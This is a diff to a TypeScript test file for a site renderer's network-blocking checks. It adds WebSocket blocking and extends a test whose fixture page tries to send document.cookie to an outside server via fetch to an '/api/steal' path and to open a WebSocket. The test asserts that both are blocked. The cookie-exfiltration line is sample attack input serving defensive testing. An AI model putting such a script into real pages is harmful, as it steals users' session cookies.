@@ -8,7 +8,13 @@ import type { AddressInfo } from 'node:net';
 import type { Browser } from 'playwright-core';
 import t from 'tap';
 import { RENDER_VIEWPORTS, type RenderDevice, type RenderedProblem } from '../../shared/jobs/rendered-checks.ts';
-import { AXE_TIME_LIMIT_MS, checkRenderedPage, recordPageEvents, SITE_ORIGIN } from '../../services/renderer/checks/rendered-checks.ts';
+import {
+  AXE_TIME_LIMIT_MS,
+  blockWebSockets,
+  checkRenderedPage,
+  recordPageEvents,
+  SITE_ORIGIN,
+} from '../../services/renderer/checks/rendered-checks.ts';
 import { launchBrowser } from '../support/site-quality/browser-checks.ts';
 
 t.setTimeout(120_000);
@@ -34,6 +40,7 @@ async function check(files: Record<string, string>, device: RenderDevice, pagePa
       return route.fulfill({ status: 200, contentType: TYPES[path.split('.').pop() ?? ''] ?? 'application/octet-stream', body });
     });
     const events = recordPageEvents(page);
+    await blockWebSockets(page, events);
     await page.goto(`${SITE_ORIGIN}/${pagePath}`, { waitUntil: 'load' });
     const started = performance.now();
     const problems = await checkRenderedPage(page, pagePath, device, events);
@@ -173,6 +180,10 @@ t.test('a page that reaches for an outside address: blocked-request, and nothing
     arrived++;
     response.end('{}');
   });
+  outside.on('upgrade', (_request, socket) => {
+    arrived++;
+    socket.destroy();
+  });
   await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
   t.teardown(() => outside.close());
   const target = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
@@ -180,7 +191,8 @@ t.test('a page that reaches for an outside address: blocked-request, and nothing
     {
       'index.html': html(
         main(`<img src="${target}/pixel.gif" alt="" width="1" height="1">`),
-        `<script>fetch('${target}/api/steal?c=' + document.cookie).catch(() => {});</script>`,
+        `<script>fetch('${target}/api/steal?c=' + document.cookie).catch(() => {});
+new WebSocket('${target.replace('http', 'ws')}/socket').onerror = () => {};</script>`,
       ),
     },
     'desktop',
@@ -193,6 +205,10 @@ t.test('a page that reaches for an outside address: blocked-request, and nothing
   t.ok(
     blocked.some((m) => m.includes('/pixel.gif')),
     'the image is named',
+  );
+  t.ok(
+    blocked.some((m) => m.includes('ws://127.0.0.1') && m.includes('/socket')),
+    'the WebSocket is named',
   );
   await new Promise((resolve) => setTimeout(resolve, 200));
   t.equal(arrived, 0, 'the outside server saw no request');
